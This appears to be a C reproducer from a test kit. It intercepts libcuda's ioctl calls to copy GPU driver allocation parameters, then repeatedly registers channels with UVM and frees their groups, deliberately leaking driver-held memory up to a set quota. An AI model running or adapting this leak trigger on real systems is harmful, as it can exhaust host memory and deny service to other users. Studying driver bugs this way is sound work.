/* SPDX-License-Identifier: Apache-2.0 */
/* A channel that is registered with UVM, and then freed with its group: UVM keeps the buffers of both. Again and again.
 * What a channel's parameters are on this device libcuda shows. */
#define _GNU_SOURCE
#include "kit.h"

#include <dlfcn.h>
#include <stdarg.h>
#include <string.h>
#include <sys/ioctl.h>

enum {
        NR_ALLOC = 0x2b,
        REGISTER_CHANNEL = 27,
        CLASS_GROUP = 0xa06c,
        CLASS_SHARE = 0x9067,
        CHANNEL_SIZE = 384,
};

/* What libcuda allocated first of each, as it did. */
static struct made {
        uint32_t client, parent, handle, class_number;
        unsigned char params[CHANNEL_SIZE];
} group, share, channel, engine;
static unsigned char registered[56];
static int ctl = -1, uvm = -1;

static void keep(struct made *made, const unsigned char *block, size_t size)
{
        uint64_t params;

        if (made->client)
                return;
        memcpy(&params, block + 16, sizeof(params));
        *made = (struct made){
                kit_get32(block, 0), kit_get32(block, 4), kit_get32(block, 8), kit_get32(block, 12), { 0 }
        };
        if (params)
                memcpy(made->params, (const void *)(uintptr_t)params, size);
}

static void learn(int fd, unsigned long request, const unsigned char *block)
{
        uint32_t class_number;

        if (request == REGISTER_CHANNEL && uvm < 0) {
                uvm = fd;
                memcpy(registered, block, sizeof(registered));
        }
        if (request < 0x10000 || (request & 0xff) != NR_ALLOC)
                return;
        class_number = kit_get32(block, 12);
        if (class_number == CLASS_GROUP)
                keep(&group, block, 32);
        else if (class_number == CLASS_SHARE)
                keep(&share, block, 12);
        else if ((class_number & 0xff) == 0x6f && class_number > 0xff && channel.client == 0) {
                keep(&channel, block, CHANNEL_SIZE);
                ctl = fd;
        } else if (channel.client && kit_get32(block, 4) == channel.handle)
                keep(&engine, block, 16);
}

int ioctl(int fd, unsigned long request, ...)
{
        static int (*next)(int, unsigned long, ...);
        va_list list;
        void *block;

        va_start(list, request);
        block = va_arg(list, void *);
        va_end(list);
        if (!next)
                next = (int (*)(int, unsigned long, ...))dlsym(RTLD_NEXT, "ioctl");
        if (block && (uvm < 0 || !channel.client || !engine.client))
                learn(fd, request & 0xffffffffu, block);
        return next(fd, request, block);
}

static bool once(const struct kit_rm *rm, uint32_t handle)
{
        unsigned char params[CHANNEL_SIZE], block[56];

        if (!kit_ok(kit_rm_alloc(rm, group.parent, handle, CLASS_GROUP, group.params, 0)))
                return false;
        if (!kit_ok(kit_rm_alloc(rm, handle, handle + 1, CLASS_SHARE, share.params, 0)))
                return false;
        memcpy(params, channel.params, sizeof(params));
        kit_put32(params, 24, handle + 1);
        if (!kit_ok(kit_rm_alloc(rm, handle, handle + 2, channel.class_number, params, 0)))
                return false;
        /* UVM takes a channel whose context the driver has made, with its first engine object. */
        if (!kit_ok(kit_rm_alloc(rm, handle + 2, handle + 3, engine.class_number, engine.params, 0)))
                return false;
        memcpy(block, registered, sizeof(block));
        kit_put32(block, 24, handle + 2);
        kit_put64(block, 32, 0x510000000000ull + ((uint64_t)(handle & 0xffff) << 24));
        if (ioctl(uvm, REGISTER_CHANNEL, block) < 0 || kit_get32(block, 48))
                return false;
        return kit_ok(kit_rm_free(rm, group.parent, handle));
}

int main(void)
{
        enum { EACH_KIB = 4416 + 64, FIRST = 0x7e000000, APART = 16 };
        uint64_t n_max = (kit_quota_mib() + 64 - 520) * 1024 / EACH_KIB, n = 0; /* no more than it takes */
        struct kit_rm rm;

        kit_start();
        if (!channel.client || !group.client || !share.client || !engine.client || uvm < 0)
                kit_cannot("no group of libcuda's seen");
        rm = (struct kit_rm){ ctl, -1, channel.client };
        while (n < n_max && once(&rm, FIRST + (uint32_t)n * APART))
                n++;
        kit_hold(520 + n * EACH_KIB / 1024);
        return 0;
}
